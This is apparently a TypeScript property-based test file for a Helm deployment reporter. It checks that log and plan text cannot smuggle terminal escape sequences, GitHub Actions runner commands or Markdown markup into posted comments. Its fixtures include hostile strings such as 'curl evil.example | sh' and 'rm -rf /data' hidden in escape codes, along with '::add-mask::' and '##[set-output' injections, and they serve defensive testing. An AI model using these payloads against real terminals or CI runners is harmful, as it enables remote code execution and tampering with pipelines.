import { stripVTControlCharacters } from 'node:util'
import fc from 'fast-check'
import { marked } from 'marked'
import { describe, expect, test } from 'vitest'
import { parseMarker } from '../../src/github/comment-marker.ts'
import { mergeGroupStatus, withStatus } from '../../src/report/comment/status-line.ts'
import { createLog } from '../../src/report/log/log.ts'
import { byteLength, code, fence, prose, table } from '../../src/report/markdown/markdown.ts'
import { summary } from '../../src/report/summary/summary.ts'
import { planText } from '../../src/report/words/plan-text.ts'
import { printable } from '../../src/report/words/printable.ts'
import { seededRandom } from '../seeded-random.ts'
import { posted } from './comment/posted.ts'
import { CANARY, hostilePass, hostileText, hugePass, payloadsInContext } from './hostile.ts'
import { at, info, upgrade } from './runs.ts'

/** Properties take a second alone, more on a busy machine. */
const SLOW_MS = 180_000

/** Lines that are made from a seed, and payloads in their contexts: less proves less. */
const LINES = 100_000
const MIN_PAYLOADS = 300

describe('S-09 what is approved hides nothing behind controls', () => {
  test.each([
    ['a title of the terminal', ': \u001b]0; ; curl evil.example | sh #\u0007'],
    ['an address of the terminal', '\u001b]8;;https://evil.example\u001b\\safe'],
    ['a title without an end', '\u001b]2;rm -rf /data'],
    ['a control string', '\u001bPcurl evil.example\u001b\\'],
    ['a control of one character', '\u009d0;curl evil.example\u009c'],
    ['a sequence that ends with a letter of the text', '\u001b[curl evil.example'],
    ['hidden letters', '\u001b[8mcurl evil.example\u001b[0m'],
    ['letters without a shape', 'curl\u3164evil\u115f.example\u{e0061}\u034f'],
  ])('%s', (_what, text) => {
    const seen = text.replace(/[^ -~]/gu, (one) => `\\u{${one.codePointAt(0)?.toString(16)}}`)
    expect(fence([text]).split('\n')[1]).toBe(seen)
    expect(code(text)).toContain(seen)
    expect(printable(text)).toBe(printable(seen.replace(/\\u\{1b\}\[[08]m/g, '')))
  })
})

describe('S-20 no foreign line is a command of the runner, in whatever it is wrapped', () => {
  const bits = [
    ':',
    '#',
    '[',
    ']',
    '\r',
    '\n',
    '\u001b',
    '[0m',
    '\u00a0',
    '\ufeff',
    '\u2028',
    '\u0085',
    '\u200b',
    ' ',
    '\t',
    'error',
    'add-mask',
    '::add-mask::secret-value',
    '::stop-commands::token',
    '::error file=a.ts,line=1::x',
    '##[set-output name=a;]b',
    '::group::',
    '%0A',
    '\u2029',
    '\u009b31m',
    '\u001b]0;x\u0007',
    '\ufe0f',
  ]
  const line = fc.array(fc.constantFrom(...bits), { maxLength: 30 }).map((parts) => parts.join(''))

  test(
    `made printable, ${LINES} lines`,
    () => {
      const random = seededRandom(1)
      const below = (end: number) => Math.floor(random() * end)
      const lines = Array.from({ length: LINES }, () =>
        Array.from({ length: below(16) }, () => bits[below(bits.length)] ?? '').join(''),
      )

      // Without commands among them the rest would prove nothing.
      expect(lines.filter((text) => commandsIn(text).length > 0).length).toBeGreaterThan(LINES / 4)
      expect(lines.filter((text) => commandsIn(printable(text)).length > 0)).toEqual([])
    },
    SLOW_MS,
  )

  test(
    'as a pod log',
    () => {
      const log = createLog(upgrade)
      fc.assert(
        fc.property(line, line, (pod, text) => {
          const event = at(0, { type: 'log', id: 'await/Job/shop/migrate', pod, container: 'app', line: text } as const)
          const [action] = log(event)
          expect(commandsIn(action?.kind === 'line' ? action.text : '')).toEqual([])
        }),
        { numRuns: 5_000 },
      )
    },
    SLOW_MS,
  )

  test(
    'as a plan',
    () => {
      fc.assert(
        fc.property(hostilePass, (pass) => {
          expect(pass.plan === undefined ? [] : commandsIn(planText(pass.plan))).toEqual([])
        }),
        { numRuns: 200 },
      )
    },
    SLOW_MS,
  )

  test('what an ordinary line says is not touched', () => {
    expect(printable('GET /a?b=c::d [1] # 100% "é" 漢字')).toBe('GET /a?b=c::d [1] # 100% "é" 漢字')
  })
})

describe('S-22 foreign text stays text in Markdown', () => {
  const inContext = payloadsInContext(MIN_PAYLOADS)

  test(`in a code span, a cell, a fence, ${inContext.length} payloads`, () => {
    expect(new Set(inContext).size).toBeGreaterThanOrEqual(MIN_PAYLOADS)
    for (const payload of inContext) {
      const text = `${code(payload)}\n\n${table([{ title: 'a' }, { title: 'b' }], [[code(payload), 'last']])}\n\n${fence(payload.split('\n'))}`

      expect(htmlOutsideCode(text), payload).toBe(
        '<p></p><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td></td><td>last</td></tr></tbody></table>',
      )
    }
  })

  test(`as prose, they make no element and no mention, ${inContext.length} payloads`, () => {
    for (const payload of inContext) {
      const html = htmlOutsideCode(`**Next:** ${prose(payload)}`)

      expect(html.replace('<strong>', '').replace('</strong>', ''), payload).toMatch(/^<p>[^<]*<\/p>$/)
      expect(html, payload).not.toMatch(/[@#]\w|GH-\d|:\/\/|www\.|\b[0-9a-f]{7,40}\b/)
    }
  })
})

describe('any pass fits and is whole', () => {
  test(
    'comment and summary of 3,000 objects: within 60,000 and 900,000 bytes',
    () => {
      fc.assert(
        fc.property(hugePass, hostileText, (pass, hash) => {
          const plans = [{ release: 'web', namespace: 'shop', hash, comparedBy: 'dry-run' as const }]
          const text = posted({ marker: { key: 'k', plans }, passes: [pass], info })

          expect(byteLength(text)).toBeLessThanOrEqual(60_000)
          expect(parseMarker(text)?.plans?.[0]?.release).toBe('web')
          expectOnlyOurs(text)
          expect(byteLength(summary({ passes: [pass], info }))).toBeLessThanOrEqual(900_000)
        }),
        { numRuns: 2, endOnFailure: true },
      )
    },
    SLOW_MS,
  )

  test(
    'a status is replaced, and nothing else',
    () => {
      fc.assert(
        fc.property(hostilePass, hostilePass, (pass, again) => {
          const text = posted({ passes: [pass], info })
          const changed = withStatus(text, mergeGroupStatus([again], info)) ?? ''

          expect(changed.split('\n').slice(0, -2)).toEqual(text.split('\n').slice(0, -2))
          expectOnlyOurs(changed)
        }),
        { numRuns: 100, endOnFailure: true },
      )
    },
    SLOW_MS,
  )

  test(
    'comment: within the limit, marker on line 1, markup balanced, nothing of the data outside of code',
    () => {
      fc.assert(
        fc.property(
          fc.array(hostilePass, { minLength: 1, maxLength: 3 }),
          fc.integer({ min: 1_500, max: 60_000 }),
          (passes, limitBytes) => {
            const text = posted({ passes, info, limitBytes })

            expect(byteLength(text)).toBeLessThanOrEqual(limitBytes)
            expect(parseMarker(text)?.key).toBe('k')
            expectOnlyOurs(text)
            // An open fence would swallow the last line.
            expect(htmlOutsideCode(text)).toMatch(/<!-- status --><p><strong>Status:<\/strong>/)
          },
        ),
        { numRuns: 150, endOnFailure: true },
      )
    },
    SLOW_MS,
  )

  test(
    'summary: within the limit, markup balanced, nothing of the data outside of code',
    () => {
      fc.assert(
        fc.property(
          fc.array(hostilePass, { minLength: 1, maxLength: 3 }),
          fc.integer({ min: 1_500, max: 60_000 }),
          (passes, limitBytes) => {
            const text = summary({ passes, info, limitBytes })

            expect(byteLength(text)).toBeLessThanOrEqual(limitBytes)
            expectOnlyOurs(text)
          },
        ),
        { numRuns: 150, endOnFailure: true },
      )
    },
    SLOW_MS,
  )
})

/**
 * How the runner finds commands: `::` at the start of a trimmed line, `##[` anywhere, here also in a line whose colours
 * are taken out. Source: actions/runner ActionCommand.cs.
 */
function commandsIn(stdout: string): readonly string[] {
  return stdout.split(/\r\n|\r|\n/).filter((line) => isCommand(line) || isCommand(stripVTControlCharacters(line)))
}

function isCommand(line: string): boolean {
  return /^[\s\u0085\u200b\ufeff]*::/u.test(line) || line.includes('##[')
}

/** The rendered page without the content of code, which GitHub shows as it is, and without blanks between elements. */
function htmlOutsideCode(markdown: string): string {
  return marked
    .parse(markdown, { async: false, gfm: true })
    .replace(/<pre>[\s\S]*?<\/pre>/g, '')
    .replace(/<code>[\s\S]*?<\/code>/g, '')
    .replace(/>\s+</g, '><')
    .trim()
}

const OUR_ELEMENTS = new Set(
  'p h3 h4 a strong table thead tbody tr th td ul li blockquote details summary br'.split(' '),
)

function expectOnlyOurs(markdown: string): void {
  const html = htmlOutsideCode(markdown)
    .replace(/^<!-- staged-helm-deploy v1 [\w-]+ -->/, '')
    .replace(/<!-- status -->(?=<p><strong>Status:)/, '')
  const elements = [...html.matchAll(/<(\/?)([a-z0-9!-]+)([^>]*)>/gi)]
  expect(elements.map(([, , name = '']) => name).filter((name) => !OUR_ELEMENTS.has(name))).toEqual([])
  const links = elements.filter(([, slash, name]) => slash === '' && name === 'a').map(([, , , rest]) => rest)
  expect(new Set(links).difference(new Set([` href="${info.runUrl}"`]))).toEqual(new Set())
  expect(html.split('<details').length).toBe(html.split('</details>').length)
  // Problems and hints are prose: they may be read, but not be found by GitHub's filters.
  expect(html).not.toMatch(new RegExp(`[@#]${CANARY}|://x\\.test`))
}
